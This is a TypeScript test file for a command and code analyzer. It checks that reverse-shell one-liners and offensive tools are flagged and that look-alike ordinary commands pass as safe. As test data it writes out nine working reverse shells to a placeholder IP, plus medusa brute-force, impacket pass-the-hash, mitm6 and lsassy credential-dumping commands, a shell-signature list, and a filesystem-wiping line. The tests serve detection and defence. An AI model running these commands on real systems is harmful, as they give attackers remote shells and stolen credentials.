/**
 * Capability concepts of the command and code analyzers, pinned with variants nobody wrote a rule for: a shell
 * wired to a socket by any interpreter or relay, the same one-liners sent as code, offensive tools by class, and
 * the look-alikes that use the same programs for ordinary work.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { check } from '../src/engine/engine.js';

const WIRED_SHELLS = [
  `awk 'BEGIN {s = "/inet/tcp/0/198.51.100.7/4242"; while(42) { do{ printf "shell>" |& s; s |& getline c; if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } while(c != "exit") close(s); }}' /dev/null`,
  `lua -e "require('socket');require('os');t=socket.tcp();t:connect('198.51.100.7','4242');os.execute('/bin/sh -i <&3 >&3 2>&3');"`,
  `jrunscript -e 'var p=new java.lang.ProcessBuilder("/bin/sh").redirectErrorStream(true).start();var s=new java.net.Socket("198.51.100.7",4242);'`,
  `echo 'package main;import"os/exec";import"net";func main(){c,_:=net.Dial("tcp","198.51.100.7:4242");cmd:=exec.Command("/bin/sh");cmd.Stdin=c;cmd.Stdout=c;cmd.Run()}' > /tmp/t.go && go run /tmp/t.go`,
  'mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 198.51.100.7:4242 > /tmp/s; rm /tmp/s',
  `crystal eval 'require "socket";c=Socket.tcp(Socket::Family::INET);c.connect("198.51.100.7",4242);loop{m,l=c.receive;p=Process.new(m,output:Process::Redirect::Pipe,shell:true)}'`,
  'rcat connect -s bash 198.51.100.7 4242',
  `vim -c ':py3 import os,socket,pty;s=socket.socket();s.connect(("198.51.100.7",4242));[os.dup2(s.fileno(),fd) for fd in (0,1,2)];pty.spawn("/bin/sh")'`,
  `tclsh <<< 'set s [socket 198.51.100.7 4242];while 42 { gets $s c;set e "exec $c";if {![catch {set r [eval $e]} err]} { puts $s $r }; flush $s; }'`,
];

const ORDINARY = [
  'python3 -m http.server 8000', 'nc -zv db.internal 5432', 'socat TCP-LISTEN:8080,fork TCP:localhost:80', 'openssl s_client -connect example.com:443 </dev/null',
  `awk '{print $1}' access.log | sort | uniq -c`, `lua -e 'print(os.time())'`, `echo 'package main; func main(){ println("hi") }' > /tmp/h.go && go run /tmp/h.go`,
  'telnet mail.example.com 25', 'ncat -l 8080 --keep-open --sh-exec "echo HTTP/1.0 200 OK"', 'rm -rf node_modules dist .cache', 'Set-MpPreference -DisableRealtimeMonitoring $false',
];

test('a shell wired to a socket is caught whatever program carries it, as a command and as code', () => {
  for (const v of WIRED_SHELLS) {
    assert.equal(check({ type: 'command', value: v }).level, 'DANGER', `command: ${v}`);
    assert.notEqual(check({ type: 'code', value: v }).level, 'SAFE', `code: ${v}`);
  }
});

test('the same programs doing ordinary work stay SAFE, as a command and as code', () => {
  for (const v of ORDINARY) {
    assert.equal(check({ type: 'command', value: v }).level, 'SAFE', `command: ${v}`);
    assert.equal(check({ type: 'code', value: v }).level, 'SAFE', `code: ${v}`);
  }
});

test('offensive tools are judged by their class; asking them for help is not an attack', () => {
  const cases: Array<[string, string]> = [
    ['medusa -h 10.0.0.5 -u admin -P words.txt -M ssh', 'ESCALATION'],
    ['impacket-wmiexec corp/admin@10.0.0.5 -hashes :31d6cfe0d16ae931b73c59d7e0c089c0', 'ESCALATION'],
    ['mitm6 -d corp.local', 'EXFILTRATION'],
    ['lsassy -u admin -p pass 10.0.0.0/24', 'EXFILTRATION'],
  ];
  for (const [v, primitive] of cases) {
    const r = check({ type: 'command', value: v });
    assert.notEqual(r.level, 'SAFE', v);
    assert.equal(r.threats[0]?.primitive, primitive, v);
  }
  for (const v of ['hydra --help', 'mitm6 --version', 'john']) assert.equal(check({ type: 'command', value: v }).level, 'SAFE', v);
});

test('code that only lists or tests payloads is data; code whose comment says a check is bypassed is not', () => {
  const detector = "SIGNATURES = ['bash -i >& /dev/tcp/', 'nc -e /bin/sh']\n\ndef test_flags_shell():\n    assert detect('bash -i >& /dev/tcp/10.0.0.1/4444 0>&1')";
  assert.equal(check({ type: 'code', value: detector, metadata: { language: 'python' } }).level, 'SAFE');
  assert.equal(check({ type: 'code', value: "def test_split():\n    assert split_cmd('rm -rf /') == ['rm', '-rf', '/']" }).level, 'SAFE');
  assert.notEqual(check({ type: 'code', value: "def test_cleanup():\n    shutil.rmtree('/')\n    assert True" }).level, 'SAFE');
  const bypass = 'func ValidateLicense(k string) bool {\n\treturn true // skip validation for every tenant until billing is fixed\n}';
  assert.notEqual(check({ type: 'code', value: bypass, metadata: { language: 'go' } }).level, 'SAFE');
});
